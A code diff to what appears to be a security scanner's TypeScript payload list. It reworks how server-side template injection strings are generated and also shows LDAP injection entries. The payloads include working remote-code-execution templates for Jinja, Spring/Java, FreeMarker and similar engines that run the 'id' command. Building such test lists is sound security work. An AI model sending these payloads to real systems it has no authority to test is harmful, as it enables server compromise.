@@ -42,8 +42,17 @@ const LDAPI = [
   '*(|(mail=*))',
 ];
 
+/**
+ * Each engine's opener with its own closer: crossing openers and closers independently produced
+ * `{{7*7}` or `@(config}}`, which no engine evaluates (Jinja/Twig/Handlebars reject the unclosed `{{`).
+ */
+const SSTI_DELIMITERS: ReadonlyArray<readonly [string, string]> = [
+  ['{{', '}}'], ['${', '}'], ['#{', '}'], ['<%= ', ' %>'], ['{{= ', '}}'], ['[[${', '}]]'], ['@(', ')'],
+];
+const SSTI_BODIES = ['7*7', "7*'7'", 'config', 'self.__init__.__globals__', "request.application.__globals__.__builtins__.__import__('os').popen('id').read()", 'T(java.lang.Runtime).getRuntime().exec("id")', "''.__class__.__mro__[1].__subclasses__()"];
+
 const SSTI = [
-  ...cross(['{{', '${', '#{', '<%= ', '{{= ', '[[${', '@('], ['7*7', "7*'7'", 'config', 'self.__init__.__globals__', "request.application.__globals__.__builtins__.__import__('os').popen('id').read()", 'T(java.lang.Runtime).getRuntime().exec("id")', "''.__class__.__mro__[1].__subclasses__()"], ['}}', '}', '}', ' %>', '}}', '}]]', ')']),
+  ...SSTI_DELIMITERS.flatMap(([open, close]) => SSTI_BODIES.map((body) => `${open}${body}${close}`)),
   '{% import os %}{{ os.system("id") }}',
   '{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}',
   '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }',
